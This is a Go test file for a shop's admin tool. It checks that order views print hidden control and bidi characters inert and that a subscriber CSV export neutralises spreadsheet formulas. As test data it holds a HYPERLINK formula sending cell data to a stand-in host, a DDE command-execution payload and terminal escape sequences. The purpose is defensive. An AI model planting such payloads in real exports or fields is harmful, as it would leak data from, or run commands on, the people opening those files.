package admin_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"unicode"

	"sabershop/internal/order"
	"sabershop/internal/store"
)

// assertInert fails when out holds a character a terminal or a viewer
// would act on: controls other than LF and TAB, bidi and other format
// characters, line and paragraph separators.
func assertInert(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			t.Errorf("%s: raw %U at byte %d:\n%q", what, r, i, out)
			return
		}
	}
}

// An order kept with a bidi override and an escape sequence in the
// customer's fields (an old order: today's form refuses them) printed them
// raw in orders list and orders show. They print as visible markers
// (docs/decisions/orders-and-payments.md#the-owners-views-print-stored-text-inert).
func TestOrdersPrintHiddenCharactersInert(t *testing.T) {
	f := newFixture(t)
	o := f.place("pl", customer("Anna", "anna@example.com", "pl"), arc(1))
	o.Customer.FirstName = "Anna\u202Egnp.exe"
	o.Customer.LastName = "Nowak\x1b[2J\x1b]0;owned\x07"
	o.Customer.Street = "Długa 1\u2028Bcc: x"
	o.Customer.City = "War\u200Bszawa\u2066"
	o.Customer.Phone = "+48 600\x1b[31m"
	o.Customer.Zip = "00-001\r"
	o.Customer.Email = "anna\uFEFF@example.com"
	o.Timeline[0].Cause = "order placed\x1b[8m"
	if err := f.db.UpdateNow(func(tx *store.Tx) error { return tx.PutOrder(o) }); err != nil {
		t.Fatal(err)
	}

	list := f.ok("orders", "list")
	assertInert(t, "orders list", list)
	for _, want := range []string{"Anna<U+202E>gnp.exe Nowak<U+001B>[2J<U+001B>]0;owned<U+0007>", "anna<U+FEFF>@example.com"} {
		if !strings.Contains(list, want) {
			t.Errorf("orders list lacks %q:\n%s", want, list)
		}
	}
	if n := len(lines(list)); n != 2 {
		t.Errorf("orders list: %d lines, want a header and one row:\n%s", n, list)
	}

	show := f.ok("orders", "show", o.Hash)
	assertInert(t, "orders show", show)
	for _, want := range []string{"Anna<U+202E>gnp.exe", "Nowak<U+001B>[2J", "Długa 1<U+2028>Bcc: x", "War<U+200B>szawa<U+2066>",
		"+48 600<U+001B>[31m", "00-001<U+000D>", "anna<U+FEFF>@example.com", "order placed<U+001B>[8m"} {
		if !strings.Contains(show, want) {
			t.Errorf("orders show lacks %q:\n%s", want, show)
		}
	}
	// Real names print as they are.
	p := f.place("de", order.Customer{FirstName: "Jürgen 👨‍👩‍👧", LastName: "Straße محمد", Email: "j@example.com",
		Phone: "+49 30 123456", Country: "de", Street: "Hauptstraße 1", Zip: "10115", City: "Berlin"}, arc(1))
	if show := f.ok("orders", "show", p.Hash); !strings.Contains(show, "Jürgen 👨‍👩‍👧 Straße محمد") {
		t.Errorf("a real name changed:\n%s", show)
	}
}

// The subscribers export wrote cells starting with =, +, -, @,
// a tab or a CR as they were: a spreadsheet runs them as formulas. Every
// such cell now begins with a single quote, every cell is quoted (so a ";"
// cannot start a cell in a semicolon-separated Excel), and the file is still
// CSV that encoding/csv reads back.
func TestSubscribersExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")@example.com`,
		"+1+1@example.com",
		"-2+3@example.com",
		"@SUM(1+1)@example.com",
		"\t=1+2@example.com",
		"\r=1+3@example.com",
		"\n=1+4@example.com",
		`a;=cmd|' /C calc'!A0@example.com`,
		"plain@example.com",
		"rlo\u202E@example.com",
	}
	for _, e := range hostile {
		f.subscribe(e, "pl", true, false)
	}
	f.subscribe("locale@example.com", "=1+1", true, false)

	out := f.ok("subscribers", "export")
	assertInert(t, "export", strings.ReplaceAll(out, "\r\n", "\n"))
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, out)
	}
	if len(rows) != len(hostile)+2 {
		t.Fatalf("%d rows, want %d:\n%s", len(rows), len(hostile)+2, out)
	}
	got := map[string]bool{}
	for _, row := range rows[1:] {
		if len(row) != 4 {
			t.Errorf("row of %d cells: %q", len(row), row)
		}
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("cell %q begins with a formula character", cell)
			}
		}
		got[row[0]] = true
	}
	for _, want := range []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"Click")@example.com`, "'+1+1@example.com", "'-2+3@example.com",
		"'@SUM(1+1)@example.com", "'<U+0009>=1+2@example.com", "'<U+000D>=1+3@example.com", "'<U+000A>=1+4@example.com",
		`a;=cmd|' /C calc'!A0@example.com`, "plain@example.com", "rlo<U+202E>@example.com", "locale@example.com",
	} {
		if !got[want] {
			t.Errorf("no row for %q; rows %q", want, rows)
		}
	}
	// Every cell is quoted, so the ";" stays inside its cell for Excel too.
	for _, line := range strings.Split(strings.TrimSuffix(out, "\r\n"), "\r\n") {
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) || strings.Count(line, `","`) != 3 {
			t.Errorf("not every cell quoted: %q", line)
		}
	}
	if !strings.Contains(out, `"locale@example.com","'=1+1",`) {
		t.Errorf("the locale cell is not neutralised:\n%s", out)
	}
}
